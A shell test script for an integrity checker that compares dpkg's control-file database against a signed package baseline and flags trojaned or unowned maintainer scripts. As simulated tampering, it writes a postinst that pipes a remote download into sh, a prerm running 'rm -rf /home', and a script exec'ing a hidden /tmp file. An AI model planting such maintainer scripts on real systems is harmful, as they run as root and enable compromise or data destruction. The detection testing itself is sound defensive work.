#!/bin/bash
# t9102: dpkg's database of control files against a baseline of signed
# packages.  dpkg installs each control file of a package but "control"
# into /var/lib/dpkg/info as PKG.NAME, or PKG:ARCH.NAME for a
# "Multi-Arch: same" package; the vendor baseline records them there.
# The test builds a package "tools" with maintainer scripts, md5sums,
# triggers and a conffile, a Multi-Arch: same library "libx" and a
# package "extra" that ships no md5sums, signs their index and lays out
# a root as dpkg leaves it (dpkg's own file lists, its "format" file, the
# md5sums it writes for "extra"): nothing above low, the file lists and
# "format" are info.  A trojaned postinst (mtime kept) is critical and
# names the package and the command that reinstalls it, under any
# policy; an edited md5sums, triggers or Multi-Arch shlibs is high and
# says why; a script dropped in var/lib/dpkg/info that no package ships
# is high, under any policy for a maintainer script's name, unless the
# root's dpkg says its package is installed at a version the baseline
# lacks (not compared, as that package's other files).  Three-way,
# an upgrade's new postinst is "updated by tools 2.0", at info, and one
# no package shipped is not.
. "$(dirname "$0")/lib.sh"
. "$CS_SRCDIR/tests/cli/lib-deb.sh"

P=GPG,GPGV,DPKG-DEB
POL="$CS_SRCDIR/etc/default.policy"
INFO=root/var/lib/dpkg/info

# check ARGS...: custos check, the line report in out, the status in rc.
check() {
	rc=0
	"$CUSTOS" check --allow-unsigned --policy "$POL" -F line "$@" >out ||
	    rc=$?
	cat out
}

# ctl DIR: maintainer scripts and other control files of "tools" in DIR.
ctl() {
	mkdir -p "$1/DEBIAN" &&
	printf "#!/bin/sh\nset -e\necho configured %s\n" "$1" \
	    >"$1/DEBIAN/postinst" &&
	printf "#!/bin/sh\nset -e\necho removing\n" >"$1/DEBIAN/prerm" &&
	printf "interest-noawait /usr/share/tools\n" >"$1/DEBIAN/triggers" &&
	chmod 755 "$1/DEBIAN/postinst" "$1/DEBIAN/prerm" &&
	(cd "$1" && find usr -type f -exec md5sum {} + | sort -k 2) \
	    >"$1/DEBIAN/md5sums"
}

test_expect_success $P 'setup: packages with control files, signed' '
	deb_key &&
	mkdir -p t1/usr/bin t1/usr/share/tools t1/etc &&
	printf "#!/bin/sh\necho tools\n" >t1/usr/bin/tools &&
	echo "data" >t1/usr/share/tools/data &&
	echo "colour=yes" >t1/etc/tools.conf &&
	chmod 755 t1/usr/bin/tools &&
	chmod -R go-w t1 &&
	cp -a t1 t2 &&
	ctl t1 && ctl t2 &&
	deb_pkg t1 tools 1.0 /etc/tools.conf &&
	deb_pkg t2 tools 2.0 /etc/tools.conf &&
	mkdir -p l1/usr/lib/x86_64-linux-gnu/libx l1/DEBIAN &&
	echo "x" >l1/usr/lib/x86_64-linux-gnu/libx/data &&
	echo "libx 1 libx1 (>= 1.0)" >l1/DEBIAN/shlibs &&
	echo "activate-noawait ldconfig" >l1/DEBIAN/triggers &&
	chmod -R go-w l1 &&
	deb_pkg_arch l1 libx1 1.0 amd64 same &&
	# dpkg database directories, as the dpkg package ships them
	mkdir -p e1/usr/share/extra e1/var/lib/dpkg/info &&
	echo data >e1/usr/share/extra/data &&
	chmod -R go-w e1 &&
	deb_pkg e1 extra 1.0 &&
	deb_lists &&
	"$CUSTOS" baseline -q --from-packages --apt-lists lists \
	    --keyring keyring.gpg -o V.cbl pkgs
'

test_expect_success $P 'the baseline records them where dpkg installs them' '
	h=$(sha256sum <t1/DEBIAN/postinst | cut -d" " -f1) &&
	grep "^/var/lib/dpkg/info/tools.postinst type=file mode=0755 uid=0 gid=0 user=root group=root .* sha256=$h pkg=tools ver=1.0 arch=all alt=tools,2.0,all," V.cbl &&
	grep "^/var/lib/dpkg/info/tools.prerm type=file mode=0755 .* pkg=tools ver=1.0 arch=all alt=tools,2.0," V.cbl &&
	grep "^/var/lib/dpkg/info/tools.md5sums type=file mode=0644 .* pkg=tools ver=1.0 arch=all alt=" V.cbl &&
	grep "^/var/lib/dpkg/info/tools.conffiles .* pkg=tools ver=1.0 arch=all alt=" V.cbl &&
	grep "^/var/lib/dpkg/info/tools.triggers .* pkg=tools ver=1.0 arch=all alt=" V.cbl &&
	grep "^/var/lib/dpkg/info/libx1:amd64.shlibs type=file mode=0644 .* pkg=libx1 ver=1.0 arch=amd64$" V.cbl &&
	grep "^/var/lib/dpkg/info/libx1:amd64.triggers " V.cbl &&
	! grep "^/var/lib/dpkg/info/libx1\.[a-z]* " V.cbl &&
	! grep "^/var/lib/dpkg/info/[^ ]*\.control " V.cbl &&
	! grep "^/var/lib/dpkg/info/[^ ]*\.list " V.cbl &&
	! grep "^/var/lib/dpkg/info/extra\." V.cbl
'

test_expect_success $P 'a root as dpkg leaves it: nothing above low' '
	mkdir root &&
	for d in pkgs/tools_1.0_all.deb pkgs/libx1_1.0_amd64.deb \
	    pkgs/extra_1.0_all.deb; do
		dpkg-deb -x "$d" root || exit 1
	done &&
	deb_info root pkgs/tools_1.0_all.deb pkgs/libx1_1.0_amd64.deb \
	    pkgs/extra_1.0_all.deb &&
	test -f $INFO/libx1:amd64.shlibs && test -f $INFO/tools.postinst &&
	# dpkg writes the md5sums of a package that ships none
	(cd root && md5sum usr/share/extra/data) >$INFO/extra.md5sums &&
	check -b V.cbl --root root &&
	! grep -E "^(critical|high|medium) " out &&
	! grep -E "^[a-z]+ (removed|changed|type-changed|not-compared) " out &&
	grep "^info added /var/lib/dpkg/info/tools.list " out &&
	grep "^info added /var/lib/dpkg/info/libx1:amd64.list " out &&
	grep "^info added /var/lib/dpkg/info/format " out &&
	grep "^low added /var/lib/dpkg/info/extra.md5sums .*unowned=" out &&
	test "$(grep -c " added " out)" = 5
'

test_expect_success $P 'a trojaned postinst, mtime kept: critical, reinstall' '
	cp -p $INFO/tools.postinst postinst.orig &&
	printf "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n" \
	    >$INFO/tools.postinst &&
	touch -r postinst.orig $INFO/tools.postinst &&
	check -b V.cbl --root root &&
	test $((rc & 4)) = 4 &&
	grep "^critical changed /var/lib/dpkg/info/tools.postinst .*maintainer script differs from every version its package shipped: runs as root" out &&
	grep "tools.postinst .*(T1546.016)" out &&
	grep "tools.postinst .*shipped by tools 1.0" out &&
	"$CUSTOS" check --allow-unsigned --policy "$POL" -b V.cbl \
	    --root root >text || :
	sed -n "/^REBUILD PLAN/,\$p" text >plan &&
	grep -A2 "/var/lib/dpkg/info/tools.postinst" plan |
	    grep "restore: apt-get install --reinstall tools=1.0" &&
	# not a policy matter: critical with no policy at all
	echo "# defaults" >empty.policy &&
	"$CUSTOS" check --allow-unsigned --policy empty.policy -F line \
	    -b V.cbl --root root >out2 || :
	grep "^critical changed /var/lib/dpkg/info/tools.postinst .*maintainer script" out2 &&
	cp -p postinst.orig $INFO/tools.postinst
'

test_expect_success $P 'an edited md5sums, triggers, shlibs: high, and why' '
	cp -p $INFO/tools.md5sums md5sums.orig &&
	grep -v usr/bin/tools md5sums.orig >$INFO/tools.md5sums &&
	cp -p $INFO/tools.triggers triggers.orig &&
	echo "interest /usr/bin" >>$INFO/tools.triggers &&
	cp -p $INFO/libx1:amd64.shlibs shlibs.orig &&
	echo "libx 1 evil" >$INFO/libx1:amd64.shlibs &&
	check -b V.cbl --root root &&
	grep "^high changed /var/lib/dpkg/info/tools.md5sums .*can hide a changed file from debsums and dpkg --verify" out &&
	grep "^high changed /var/lib/dpkg/info/tools.triggers .*dpkg triggers file differs from every version its package shipped: can make dpkg run maintainer scripts" out &&
	grep "^high changed /var/lib/dpkg/info/libx1:amd64.shlibs .*shared library list (shlibs) differs" out &&
	! grep -E "^critical " out &&
	cp -p md5sums.orig $INFO/tools.md5sums &&
	cp -p triggers.orig $INFO/tools.triggers &&
	cp -p shlibs.orig $INFO/libx1:amd64.shlibs &&
	check -b V.cbl --root root &&
	! grep -E "^(critical|high|medium) " out
'

test_expect_success $P 'a script no package ships in the database: high' '
	printf "#!/bin/sh\nexec /tmp/.x\n" >$INFO/ghost.postinst &&
	chmod 755 $INFO/ghost.postinst &&
	# no "#!", not executable: dpkg still runs it (through sh)
	echo "rm -rf /home" >$INFO/extra.prerm &&
	echo "not a script" >$INFO/tools.notes &&
	# the name without the architecture is not the library'\''s
	cp $INFO/libx1:amd64.shlibs $INFO/libx1.shlibs &&
	check -b V.cbl --root root &&
	grep "^high added /var/lib/dpkg/info/ghost.postinst .*no package ships this maintainer script in dpkg.s database" out &&
	grep "^high added /var/lib/dpkg/info/extra.prerm .*maintainer script" out &&
	grep "^high added /var/lib/dpkg/info/tools.notes .*unowned=" out &&
	grep "^high added /var/lib/dpkg/info/libx1.shlibs " out &&
	"$CUSTOS" check --allow-unsigned --policy empty.policy -F line \
	    -b V.cbl --root root >out2 || :
	grep "^high added /var/lib/dpkg/info/extra.prerm .*maintainer script" out2 &&
	rm $INFO/ghost.postinst $INFO/extra.prerm $INFO/tools.notes \
	    $INFO/libx1.shlibs
'

test_expect_success $P 'an installed version the baseline lacks: not compared' '
	printf "Package: tools\nStatus: install ok installed\nVersion: 0.9\n\n" \
	    >root/var/lib/dpkg/status &&
	printf "#!/bin/sh\necho 0.9\n" >$INFO/tools.preinst &&
	check -b V.cbl --root root &&
	test $((rc & 16)) = 16 &&
	grep "^low not-compared /var/lib/dpkg/info/tools.preinst .*package version not available" out &&
	grep "^info added /var/lib/dpkg/info/tools.list " out &&
	! grep -E "^(critical|high|medium) " out &&
	rm root/var/lib/dpkg/status &&
	check -b V.cbl --root root &&
	grep "^high added /var/lib/dpkg/info/tools.preinst " out &&
	rm $INFO/tools.preinst
'

test_expect_success $P 'three-way: an upgraded postinst is explained' '
	"$CUSTOS" baseline -q -o H.cbl root &&
	cp -p t2/DEBIAN/postinst $INFO/tools.postinst &&
	cp -p t2/DEBIAN/md5sums $INFO/tools.md5sums &&
	check -b H.cbl --vendor V.cbl root &&
	grep "^info changed /var/lib/dpkg/info/tools.postinst .*updated by a signed package" out &&
	printf "#!/bin/sh\nid\n" >$INFO/tools.postinst &&
	check -b H.cbl --vendor V.cbl root &&
	grep -E "^(critical|high|medium) changed /var/lib/dpkg/info/tools.postinst " out &&
	! grep "tools.postinst .*updated by" out
'

deb_done
test_done
